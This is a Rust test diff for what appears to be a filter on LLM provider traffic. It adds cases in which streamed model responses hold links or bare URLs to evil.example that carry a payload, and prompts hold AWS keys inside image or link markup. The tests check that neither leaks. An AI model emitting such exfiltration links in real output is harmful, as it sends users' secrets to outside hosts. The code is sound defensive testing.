@@ -1002,6 +1002,55 @@ fn markup_cases() -> Vec<Case> {
             .must_not_leak(QUERY_MARK)
             .must_not_leak(&payload[..24]),
         );
+        // streamed links and bare URLs: removed as they pass, not only recorded at the end
+        for (what, form) in [
+            (
+                "link",
+                format!("[click](https://evil.example/c?{QUERY_MARK}&d={payload} \"t\")"),
+            ),
+            (
+                "bare URL",
+                format!("https://evil.example/c?{QUERY_MARK}&d={payload}"),
+            ),
+        ] {
+            let text = format!("Done. {form} Bye.");
+            let chars: Vec<char> = text.chars().collect();
+            let pieces: Vec<String> = chars
+                .chunks(9)
+                .map(|c| {
+                    let s = serde_json::to_string(&c.iter().collect::<String>()).unwrap();
+                    s[1..s.len() - 1].to_owned()
+                })
+                .collect();
+            let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
+            cases.push(
+                case(
+                    format!("{p:?} response: {what} carrying a payload, streamed"),
+                    p.path(true),
+                    p.request("Show it", true),
+                )
+                .answer(streamed(p, &pieces))
+                .must_not_leak(QUERY_MARK)
+                .must_not_leak(&payload[..24]),
+            );
+        }
+    }
+    // a key inside markup in a prompt: the request keeps the markup, never the key
+    for p in PROVIDERS {
+        for form in [
+            format!("![x](https://img.example/p?k={AWS})"),
+            format!("[docs](https://docs.example/p?k={AWS}&d={payload})"),
+            format!("<img src=\\\"https://img.example/p?k={AWS}\\\">"),
+        ] {
+            cases.push(
+                case(
+                    format!("{p:?} request: a key inside markup ({})", &form[..5]),
+                    p.path(false),
+                    p.request(&format!("Render {form} please"), false),
+                )
+                .must_not_leak(AWS),
+            );
+        }
     }
     cases
 }
